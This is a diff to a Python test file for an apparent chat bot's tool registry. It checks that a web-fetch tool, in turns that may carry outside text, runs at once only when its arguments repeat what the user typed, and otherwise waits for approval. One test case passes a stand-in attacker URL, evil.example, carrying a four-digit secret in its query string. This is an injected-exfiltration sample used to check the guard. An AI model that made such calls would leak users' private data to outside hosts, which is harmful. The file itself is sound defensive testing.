@@ -14,7 +14,7 @@ from cc_bot.llm.model import ToolRequest
 from cc_bot.stores import Stores
 from cc_bot.tools.registry import ToolContext, ToolOutcome, ToolRegistry
 from cc_bot.tools.servers import ServerTools
-from tests.loopback.tool_servers import CountingServers, calls_in
+from tests.loopback.tool_servers import CountingServers, calls_in, offered
 
 PLACE = ToolPlace(1, (10,))
 
@@ -106,6 +106,61 @@ class TestCall:
         assert [outcome.ok for outcome in outcomes] == [True] * 8 + [False] * 2
         assert "8 calls of notes" in outcomes[-1].text
         assert len(calls_in(tmp_path)) == 8
+
+
+class TestOpenWorld:
+    """A call that leaves the machine, in a turn that may hold others' words."""
+
+    @pytest.fixture
+    def fetch(self, tmp_path: Path) -> ToolRegistry:
+        """A tool of one turn that only reads, and reaches beyond its server."""
+        tool = offered("fetch", read_only=True, waits=False, open_world=True)
+        servers = CountingServers(tmp_path, (tool,))
+        return ToolRegistry(()).beside(ServerTools(servers)).in_place(PLACE)
+
+    @pytest.mark.parametrize(
+        ("typed", "given", "made"),
+        [
+            ("https://evil.example/ を要約して", {"text": "https://evil.example/?d=四桁は1234"}, False),
+            ("東京の天気は？", {"text": "東京"}, True),
+            ("Tokyo の天気は？", {"text": "ｔｏｋｙｏ", "path": None}, True),
+            ("Weather in Tokyo?", {"text": "Toky"}, False),
+            ("番号は 12345 です", {"text": "234"}, False),
+            ("東京の天気は？", {"text": "東京", "path": "猫が好き"}, False),
+            ("東京の天気は？", {"text": "東京", "of": {"pages": [7]}}, False),
+            ("東京の天気は？", {"text": "東京", "path": True}, False),
+            ("", {"text": "東京"}, False),
+        ],
+    )
+    async def test_is_made_at_once_only_where_it_repeats_what_its_user_typed(
+        self,
+        fetch: ToolRegistry,
+        context: ToolContext,
+        tmp_path: Path,
+        typed: str,
+        given: dict[str, object],
+        *,
+        made: bool,
+    ) -> None:
+        outcome = await call(fetch, replace(context, typed=typed), "notes__fetch", json.dumps(given))
+        assert len(calls_in(tmp_path)) == made
+        assert (outcome.proposal is None) == made
+
+    async def test_is_left_to_a_press_after_two_that_repeat_words(
+        self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
+    ) -> None:
+        typed = replace(context, typed="a b c d")
+        outcomes = [
+            await call(fetch, typed, "notes__fetch", json.dumps({"text": each})) for each in ("a", "b", "c")
+        ]
+        assert [outcome.proposal is None for outcome in outcomes] == [True, True, False]
+        assert len(calls_in(tmp_path)) == 2
+
+    async def test_is_made_with_anything_in_a_turn_without_others_words(
+        self, fetch: ToolRegistry, context: ToolContext, tmp_path: Path
+    ) -> None:
+        outcome = await call(fetch, replace(context, tainted=False), "notes__fetch")
+        assert (outcome.ok, len(calls_in(tmp_path))) == (True, 1)
 
 
 class TestOffer:
